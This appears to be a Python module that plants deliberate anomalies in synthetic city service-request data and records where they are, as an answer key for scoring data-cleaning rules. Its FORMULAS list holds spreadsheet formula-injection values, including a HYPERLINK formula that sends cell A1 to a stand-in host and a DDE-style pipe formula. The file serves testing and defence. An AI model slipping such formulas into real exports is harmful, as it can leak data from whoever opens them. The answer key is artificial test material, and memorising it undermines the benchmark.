"""What is wrong with the published requests, planted on purpose and written down: the answer key for every cleaning rule.

Belongs here: one function per kind of anomaly, how many rows get it, and the record of which. Does not belong here: what
a cleaner should do about it. Kinds never share a row (a duplicate is a copy of an otherwise sound row), so that each can
be scored by itself; large natural shares (no coordinates, near a border) are counted as facts instead.
"""

from collections.abc import Callable
from dataclasses import dataclass
from typing import Any, Final

import numpy as np
from numpy.typing import NDArray

from simulators.world import vocabulary as vocab
from simulators.world.city import BBOX, LATE_COUNCILS, LETTERS
from simulators.world.clock import (
    BATCH_IMPORT_HOUR,
    HOUR,
    TODAY,
    autumn_fold,
    clear_of_clock_changes,
    spring_gap,
)
from simulators.world.frame import Frame
from simulators.world.layout import System, key_of

Rows = NDArray[np.int64]
Mask = NDArray[np.bool_]
Rng = np.random.Generator
LEGACY_ONLY, CASES_ONLY, BOTH = ("legacy",), ("cases",), ("legacy", "cases")


@dataclass(frozen=True)
class Kind:
    """One kind of anomaly: share of all rows (at least `least`), which rows may have it, what it does to them."""

    name: str
    share: float
    least: int
    allowed: Callable[[Frame], Mask]
    change: Callable[[Frame, Rows, Rng], None]
    systems: tuple[str, ...] = BOTH


def _any(frame: Frame) -> Mask:
    return np.ones(len(frame), dtype=bool)


def _placed(frame: Frame) -> Mask:
    return ~frame.empty("Latitude")


def _addressed(frame: Frame) -> Mask:
    return ~frame.empty("Address") & ~frame.empty("HouseNumber")


def _located(frame: Frame) -> Mask:
    return _placed(frame) & _addressed(frame)


def _closed(frame: Frame) -> Mask:
    return frame.equals("Status", "Closed") & ~frame.empty("ClosedDate")


def _soon_settled(frame: Frame) -> Mask:
    """Rows closed after hours and last touched within weeks: moved to another day, their later times stay in the past
    and clear of the odd hour itself."""
    created = frame.numpy("CreatedDate")
    weeks = frame.numpy("UpdatedDate") - created < np.timedelta64(21, "D")
    hours: Mask = frame.numpy("ClosedDate") - created > 3 * HOUR
    settled: Mask = hours & weeks & _closed(frame)
    return settled


def _closed_streetlight(frame: Frame) -> Mask:
    lights = ("Single Streetlight Issue", "Multiple Streetlight Issue", "Streetlight Repair Services")
    return _closed(frame) & frame.equals("RequestType", lights)


# A change gets (frame, rows, rng) whether it draws anything or not.
# ruff: noqa: ARG001, ARG005


def _set(column: str, *values: Any) -> Callable[[Frame, Rows, Rng], None]:
    """A change that sets a column to the given values in turn."""

    def change(frame: Frame, rows: Rows, rng: Rng) -> None:
        frame.put(column, rows, [values[i % len(values)] for i in range(len(rows))])

    return change


def _set_time(column: str, text: str) -> Callable[[Frame, Rows, Rng], None]:
    return lambda frame, rows, rng: frame.put(column, rows, np.datetime64(text, "s"))


def _closed_before_created(frame: Frame, rows: Rows, rng: Rng) -> None:
    back = rng.integers(600, 90_000, len(rows)).astype("timedelta64[s]")
    when = clear_of_clock_changes(frame.numpy("CreatedDate")[rows] - back - HOUR)
    frame.put("ClosedDate", rows, when)


def _move_created(hour_of: Callable[[int], Any]) -> Callable[[Frame, Rows, Rng], None]:
    """Move rows to an odd hour of the local clock; the row's later times keep their distance."""

    def change(frame: Frame, rows: Rows, rng: Rng) -> None:
        created = frame.numpy("CreatedDate")[rows]
        year = int(str(created[0])[:4])
        start = np.datetime64(hour_of(year), "s")
        new = start + rng.integers(0, 3600, len(rows)).astype("timedelta64[s]")
        for name in ("ClosedDate", "UpdatedDate"):
            frame.put(name, rows, clear_of_clock_changes(frame.numpy(name)[rows] + (new - created)))
        frame.put("CreatedDate", rows, new)

    return change


def _batch_import(frame: Frame, rows: Rows, rng: Rng) -> None:
    start = np.datetime64(BATCH_IMPORT_HOUR, "s")
    created = start + rng.integers(0, 3600, len(rows)).astype("timedelta64[s]")
    for name in ("ClosedDate", "UpdatedDate"):
        frame.put(name, rows, np.maximum(frame.numpy(name)[rows], created))
    frame.put("CreatedDate", rows, created)


def _coordinates(make: Callable[[Any, Any, Rng], tuple[Any, Any]]) -> Callable[[Frame, Rows, Rng], None]:
    def change(frame: Frame, rows: Rows, rng: Rng) -> None:
        lat, lon = make(frame.numpy("Latitude")[rows], frame.numpy("Longitude")[rows], rng)
        frame.put("Latitude", rows, lat)
        frame.put("Longitude", rows, lon)
        frame.put("_junk", rows, 1.0)

    return change


def _next_town(frame: Frame, rows: Rows, rng: Rng) -> None:
    """A sound point just north of the city: inside any box drawn around the county, in no council."""
    north = BBOX[3]
    frame.put("Latitude", rows, np.round(north + rng.uniform(0.03, 0.15, len(rows)), 9))
    frame.put("_junk", rows, 2.0)


def _address(rewrite: Callable[[str, str], tuple[str, str | None]]) -> Callable[[Frame, Rows, Rng], None]:
    """A change of address text and ZIP; `rewrite` gets the address without its ZIP, and the ZIP."""

    def change(frame: Frame, rows: Rows, rng: Rng) -> None:
        pairs = zip(frame.texts("Address", rows), frame.texts("ZipCode", rows), strict=True)
        new = [rewrite(address.rpartition(", ")[0], zipcode) for address, zipcode in pairs]
        frame.put("Address", rows, [a for a, _ in new])
        frame.put("ZipCode", rows, [z for _, z in new])

    return change


def _unverified(frame: Frame, rows: Rows, rng: Rng) -> None:
    """The system could not find the address: only its text stays, without ZIP, and everything located is empty."""
    frame.put("Address", rows, [a.rpartition(", ")[0] for a in frame.texts("Address", rows)])
    frame.put("AddressVerified", rows, "N")
    for name in ("HouseNumber", "Direction", "StreetName", "Suffix", "ZipCode", "TBMPage", "TBMColumn", "TBMRow", "APC",
                 "CD", "CDMember", "NC", "NCName", "PolicePrecinct"):  # fmt: skip
        frame.put(name, rows, None)
    for name in ("Latitude", "Longitude"):
        frame.put(name, rows, np.nan)


def _far_page(frame: Frame, rows: Rows, rng: Rng) -> None:
    pages = rng.integers(1000, 4721, len(rows)).tolist()
    is_text = isinstance(frame.texts("TBMPage", rows)[0], str)
    frame.put("TBMPage", rows, [str(p) if is_text else p for p in pages])


def _messy_type(frame: Frame, rows: Rows, rng: Rng) -> None:
    styles: tuple[Callable[[str], str], ...] = (
        lambda x: f" {x} ",
        str.upper,
        str.lower,
        lambda x: x.replace(" ", "  ", 1) + " ",
    )
    frame.put("RequestType", rows, [styles[i % 4](x) for i, x in enumerate(frame.texts("RequestType", rows))])


FORMULAS: Final = (
    '=HYPERLINK("http://example.invalid/?x="&A1,"1ST ST"), 90001',
    "+1+1 W SAGE ST, 90005",
    "@SUM(1+1) N OAK AVE, 90010",
    "-2+3 E FIG PL, 90017",
    "=1+1|'TRUE'!A0, 90022",
)


def _formula(frame: Frame, rows: Rows, rng: Rng) -> None:
    frame.put("Address", rows, [FORMULAS[i % len(FORMULAS)] for i in range(len(rows))])
    frame.put("ZipCode", rows, [FORMULAS[i % len(FORMULAS)][-5:] if i % 5 != 4 else "90022" for i in range(len(rows))])


def _outside(spread: float) -> Callable[[Any, Any, Rng], tuple[Any, Any]]:
    """Somewhere else in the region, `spread` to twice `spread` degrees from the city."""
    west, south, *_ = BBOX
    return lambda lat, lon, rng: (
        np.round(south - rng.uniform(spread, 2 * spread, len(lat)), 9),
        np.round(west - rng.uniform(spread, 2 * spread, len(lat)), 9),
    )


def _long_number(frame: Frame, rows: Rows, rng: Rng) -> None:
    numbers = [f"{x}-{tail:07d}" for x, tail in zip(frame.texts("SRNumber", rows), range(len(rows)), strict=True)]
    frame.put("SRNumber", rows, [x.ljust(19, "0")[:19] for x in numbers])


def _late_council(frame: Frame) -> Mask:
    """Rows of the two councils certified late: the source knows their name before their number."""
    return np.isin(frame.numpy("_source"), [LETTERS.index(x) for x in LATE_COUNCILS]) & ~frame.empty("Latitude")


KINDS: Final = (
    Kind("created_placeholder_1900", 0.000005, 1, _closed, _set_time("CreatedDate", "1900-01-01T00:00:00")),
    Kind("closed_placeholder_3020", 0.00001, 1, _closed, _set_time("ClosedDate", "3020-06-11T00:00:00")),
    Kind("service_placeholder_1900", 0.00003, 1, _any, _set_time("ServiceDate", "1900-01-01T00:00:00"), LEGACY_ONLY),
    Kind("service_placeholder_2107", 0.00003, 1, _any, _set_time("ServiceDate", "2107-02-03T00:00:00"), LEGACY_ONLY),
    Kind("closed_before_created", 0.0012, 2, _closed_streetlight, _closed_before_created),
    Kind("closed_without_closed_date", 0.0015, 2, _closed, _set_time("ClosedDate", "NaT")),
    Kind("open_with_closed_date", 0.0002, 1, _closed, _set("Status", "Open", "Pending"), LEGACY_ONLY),
    Kind("test_department", 0.0002, 1, _any, _set("Owner", *vocab.CASE_STAFF_OWNERS[3:]), CASES_ONLY),
    Kind("zip_zero", 0.0004, 2, _addressed, _address(lambda a, z: (f"{a}, 0", "0"))),
    Kind("zip_missing", 0.0004, 2, _addressed, _address(lambda a, z: (a, None))),
    Kind("zip_plus_four", 0.0002, 1, _addressed, _address(lambda a, z: (f"{a}, {z}-3709", z))),
    Kind("address_with_country", 0.0002, 1, _addressed, _address(lambda a, z: (f"{a}, CA {z}, USA", z))),
    Kind("address_unverified", 0.0008, 2, _located, _unverified, LEGACY_ONLY),
    Kind("address_formula", 0.00005, 5, _addressed, _formula),
    Kind("coordinates_zero", 0.0001, 1, _placed, _coordinates(lambda lat, lon, rng: (0.0 * lat, 0.0 * lon))),
    Kind("coordinates_swapped", 0.0001, 1, _placed, _coordinates(lambda lat, lon, rng: (lon, lat))),
    Kind("coordinates_far", 0.0001, 1, _placed, _coordinates(_outside(1.5))),
    Kind("coordinates_other_country", 0.0001, 1, _placed, _coordinates(lambda lat, lon, rng: (lat + 20.0, -lon + 50.0))),
    Kind("coordinates_next_town", 0.0002, 1, _placed, _next_town),
    Kind("tbm_page_over_999", 0.0005, 1, _located, _far_page),
    Kind("council_zero_with_name", 0.0006, 2, _late_council, lambda f, r, g: f.put("NC", r, [0] * len(r)), LEGACY_ONLY),
    Kind("unknown_type", 0.00005, 2, _any, _set("RequestType", *vocab.UNKNOWN_TYPES)),
    Kind("unknown_status", 0.00005, 2, _closed, _set("Status", *vocab.UNKNOWN_STATUSES)),
    Kind("unknown_source", 0.00005, 2, _any, _set("RequestSource", *vocab.UNKNOWN_SOURCES)),
    Kind("messy_type", 0.0003, 4, _any, _messy_type),
)  # fmt: skip


class Planter:
    """Hands out disjoint rows and keeps the record: kind -> row numbers."""

    def __init__(self, frame: Frame, rng: Rng) -> None:
        self.frame, self.rng = frame, rng
        self.order = rng.permutation(len(frame))
        self.taken = np.zeros(len(frame), dtype=bool)
        self.rows: dict[str, Rows] = {}

    def choose(self, name: str, count: int, allowed: Mask) -> Rows:
        """Up to `count` rows that are allowed and have no anomaly yet; recorded under `name`."""
        free = self.order[(allowed & ~self.taken)[self.order]][:count]
        rows = np.sort(free)
        self.taken[rows] = True
        self.rows[name] = rows
        return rows

    def apply(self, kind: Kind, total: int) -> None:
        """Plant one kind in its share of `total` rows."""
        rows = self.choose(kind.name, max(kind.least, round(total * kind.share)), kind.allowed(self.frame))
        if len(rows):
            kind.change(self.frame, rows, self.rng)


def _calendar_kinds(system: System, year: int, first: np.datetime64, end: np.datetime64) -> list[Kind]:
    """The kinds that need a certain day to lie in the dataset's period."""
    out = []
    today = np.datetime64(TODAY, "s")
    for name, hour_of in (("created_in_spring_gap", spring_gap), ("created_in_autumn_fold", autumn_fold)):
        if first <= np.datetime64(hour_of(year), "s") < min(end, today):
            out.append(Kind(name, 0.0002, 2, _soon_settled, _move_created(hour_of)))
    if system == "cases" and year == 2026:
        soon = np.datetime64(BATCH_IMPORT_HOUR, "s")
        share = 8_201 / 1_531_913
        out.append(Kind("batch_import", share, 20, lambda f: f.numpy("CreatedDate") < soon, _batch_import))
    if system == "legacy" and year == 2015:
        out.append(Kind("long_number", 0.0005, 2, _any, _long_number))
    return out


def plant(frame: Frame, rng: Rng, system: System, year: int, first: np.datetime64, end: np.datetime64) -> Planter:
    """Plant every kind that fits this system and year; the frame is changed in place, the planter says where."""
    planter = Planter(frame, rng)
    for kind in (*_calendar_kinds(system, year, first, end), *(k for k in KINDS if system in k.systems)):
        planter.apply(kind, len(frame))
    return planter


def duplicates(planter: Planter, total: int, latest: np.datetime64) -> tuple[Rows, Rows]:
    """Sound rows to be published a second time: as they are, and with a later UpdatedDate (see `touch`)."""
    count = extra_rows(total) // 2
    same = planter.choose("duplicate_identical", count, _any(planter.frame))
    settled = planter.frame.numpy("UpdatedDate") < latest - np.timedelta64(4, "D")
    return same, planter.choose("duplicate_later_update", count, settled)


def extra_rows(total: int) -> int:
    """How many of `total` published rows are second copies within the dataset."""
    return 2 * max(2, round(total * 0.0006))


def touch(frame: Frame, rows: Rows, rng: Rng, system: System) -> None:
    """Make second copies differ from the first: updated up to three days later."""
    when = frame.numpy("UpdatedDate")[rows] + rng.integers(3600, 3 * 86_400, len(rows)).astype("timedelta64[s]")
    frame.put("UpdatedDate", rows, clear_of_clock_changes(when))
    frame.put("ActionTaken", rows, "SR Updated" if system == "legacy" else "Referred to Agency")


def keys_of(frame: Frame, system: System, rows: dict[str, Rows]) -> dict[str, tuple[str, ...]]:
    """The record by request number instead of by row."""
    return {name: tuple(frame.texts(key_of(system), index)) for name, index in sorted(rows.items())}
